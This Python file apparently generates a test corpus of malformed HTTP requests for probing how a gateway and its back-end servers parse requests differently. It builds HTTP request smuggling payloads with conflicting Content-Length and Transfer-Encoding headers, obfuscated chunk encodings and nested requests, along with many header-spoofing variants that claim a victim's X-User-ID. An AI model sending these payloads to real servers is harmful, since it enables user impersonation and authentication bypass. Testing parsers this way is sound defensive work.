"""Requests that are not quite HTTP, and such as two servers might read differently."""

# Header lines, as those in gateway_corpus.py.
BROKEN = [
    ["X-User-ID : {id}"],
    ["X-User-ID\t: {id}"],
    [" X-User-ID: {id}"],
    ["\tX-User-ID: {id}"],
    ["X-User-ID:\r\n {id}"],
    ["X-User-ID:\r\n\t{id}"],
    ["X-Other: a\r\n X-User-ID: {id}"],
    ["X-Other: a\nX-User-ID: {id}"],
    ["X-Other: a\rX-User-ID: {id}"],
    ["X-Other: a\r\r\nX-User-ID: {id}"],
    ["X-User-ID\0: {id}"],
    ["X-User-ID: {id}\0"],
    ["X-User-ID: {id}\x0b"],
    ["\x0bX-User-ID: {id}"],
    ["X\xadUser\xadID: {id}"],
    ["X-Us\xe9r-ID: {id}"],
    ["X\xe2\x80\x90User\xe2\x80\x90ID: {id}"],  # dashes of Unicode, in UTF-8
    [": {id}", "X-User-ID: {id}"],
    ["X-User-ID"],
    ["X-User-ID;: {id}"],
    ["(X-User-ID): {id}"],
    ['"X-User-ID": {id}'],
    ["X-User-ID: {id}", "Host: gateway"],
    ["X-User-ID: {id}", "Host: other.example"],
    ["Transfer-Encoding: chunked", "Content-Length: 4", "X-User-ID: {id}"],
    ["Content-Length: 0", "Content-Length: 5", "X-User-ID: {id}"],
    ["Content-Length: -1", "X-User-ID: {id}"],
    ["Transfer-Encoding: identity", "X-User-ID: {id}"],
]

HOSTS = [
    "", "localhost", "127.0.0.1", "traefik", "auth", "GATEWAY", "gateway.", "gateway:80", "gateway:80:80",
    "gateway:x", "gateway/api/auth/login", "gateway@evil.example", "gateway?", "gateway#", "gateway, auth",
    "gateway auth", "gateway%00", "gateway\\", "[::1]", "[::1", "..", "-", "_",
]


def whole(path, victim, token):
    """Requests whose first line or length is the trick."""
    authorization = f"Authorization: Bearer {token}\r\n" if token else ""
    claim = f"X-User-ID: {victim}\r\nX_User_Id: {victim}\r\n"
    rest = f"{authorization}{claim}Connection: close\r\n\r\n"
    host = "Host: gateway\r\n"
    texts = [
        # Older than the rest, newer, and none.
        f"GET {path} HTTP/1.0\r\n{rest}",
        f"GET {path} HTTP/1.0\r\n{host}{rest}",
        f"GET {path} HTTP/1.0\r\n{host}Connection: X-User-ID\r\n{rest}",
        f"GET {path} HTTP/1.0\r\n{host}Transfer-Encoding: chunked\r\n{rest}0\r\n\r\n",
        f"GET {path} HTTP/1.2\r\n{host}{rest}",
        f"GET {path} HTTP/2.0\r\n{host}{rest}",
        f"GET {path} http/1.1\r\n{host}{rest}",
        f"GET {path} HTTP/1.1 HTTP/1.1\r\n{host}{rest}",
        f"GET {path}\r\n{host}{rest}",
        f"GET {path} HTTP/1.1\r\n{rest}",
        # The line itself.
        f"GET  {path} HTTP/1.1\r\n{host}{rest}",
        f"GET\t{path}\tHTTP/1.1\r\n{host}{rest}",
        f" GET {path} HTTP/1.1\r\n{host}{rest}",
        f"\r\nGET {path} HTTP/1.1\r\n{host}{rest}",
        f"GET {path} HTTP/1.1\n{host}{rest}",
        f"GET {path} HTTP/1.1\r{host}{rest}",
        f"GET {path}\0 HTTP/1.1\r\n{host}{rest}",
        f"GET {path}\r\nX-User-ID: {victim} HTTP/1.1\r\n{host}{rest}",
        f"GET http://gateway{path} HTTP/1.1\r\nHost: other.example\r\n{rest}",
        f"GET http://gateway/no-such-path HTTP/1.1\r\n{host}X-Original-URL: {path}\r\n{rest}",
        f"GET * HTTP/1.1\r\n{host}X-Original-URL: {path}\r\n{rest}",
        f"CONNECT gateway:80 HTTP/1.1\r\n{host}{rest}GET {path} HTTP/1.1\r\n{host}{rest}",
        f"CONNECT {path} HTTP/1.1\r\n{host}{rest}",
        "PROXY TCP4 127.0.0.1 127.0.0.1 1 2\r\n" f"GET {path} HTTP/1.1\r\n{host}{rest}",
    ]
    # Fields that come after the body, announced and not.
    for announced in ("", "Trailer: X-User-ID, X-Identity\r\n", "Trailer: X_User_ID\r\nTE: trailers\r\n"):
        head = f"GET {path} HTTP/1.1\r\n{host}{authorization}{announced}Transfer-Encoding: chunked\r\n"
        for after in (
            f"X-User-ID: {victim}\r\nX-Identity: a\r\n", f"X_User_ID: {victim}\r\n", "Authorization: Bearer x\r\n",
        ):
            texts.append(f"{head}Connection: close\r\n\r\n1\r\na\r\n0\r\n{after}\r\n")
    return [text.encode("latin-1") for text in texts]


# The length of a body, told twice: {length} is that of all of it, the first chunk is its last.
LENGTHS = [
    "Content-Length: {length}\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nContent-Length: {length}",
    "Content-Length: {length}\r\nTransfer-Encoding : chunked",
    "Content-Length: {length}\r\nTransfer-Encoding:\tchunked",
    "Content-Length: {length}\r\nTransfer-Encoding:\x0bchunked",
    "Content-Length: {length}\r\nTransfer-Encoding: xchunked",
    'Content-Length: {length}\r\nTransfer-Encoding: "chunked"',
    "Content-Length: {length}\r\nTransfer-Encoding: CHUNKED",
    "Content-Length: {length}\r\nTransfer-Encoding: chunked, identity",
    "Content-Length: {length}\r\nTransfer-Encoding: identity, chunked",
    "Content-Length: {length}\r\nTransfer-Encoding: gzip, chunked",
    "Content-Length: {length}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "Content-Length: {length}\r\nTransfer-Encoding:\r\n chunked",
    "Content-Length: {length}\r\nTransfer_Encoding: chunked",
    "Content-Length: {length}\r\nX-Other: a\nTransfer-Encoding: chunked",
    "Content-Length: {length}\r\nX-Other: a\rTransfer-Encoding: chunked",
    "Content-Length: {length}\r\nTransfer-Encoding: chunked\r\nConnection: Transfer-Encoding",
    "Content-Length: {length}\r\nConnection: Content-Length",
    "Content-Length: {length}\r\nContent-Length: 5",
    "Content-Length: 5\r\nContent-Length: {length}",
    "Content-Length: {length}, 5",
    "Content-Length: +{length}",
    "Content-Length: 0{length}",
    "Content-Length: {length} 5",
    "Content_Length: 5\r\nContent-Length: {length}",
    "Content-Length : {length}",
    "Content-Length:\r\n {length}",
    "Transfer-Encoding: chunked",
    "Content-Length: 5",
]

# Chunks that are the last one, for some.
CHUNKS = [
    "0\r\n\r\n", "0;a\nb\r\n\r\n", "0x0\r\n\r\n", "-0\r\n\r\n", "0\n\n", "00000000000000000\r\n\r\n",
    "1\r\nab\r\n0\r\n\r\n",
]

# Says in the services' own words which requests nobody may have sent.
MARK = "smuggled"


def smuggling(path, victim, token):
    """Requests with another one in their body."""
    authorization = f"Authorization: Bearer {token}\r\n" if token else ""
    inside = f"GET {path}?{MARK} HTTP/1.1\r\nHost: gateway\r\nX-User-ID: {victim}\r\nX-Other: "
    for number, length in enumerate(LENGTHS):
        # All kinds of chunks with the first two, one with the others.
        for chunk in CHUNKS if number < 2 else CHUNKS[:1]:
            body = chunk + inside
            lines = length.replace("{length}", str(len(body)))
            head = f"GET {path} HTTP/1.1\r\nHost: gateway\r\n{authorization}{lines}\r\nConnection: close\r\n\r\n"
            yield (head + body).encode("latin-1")
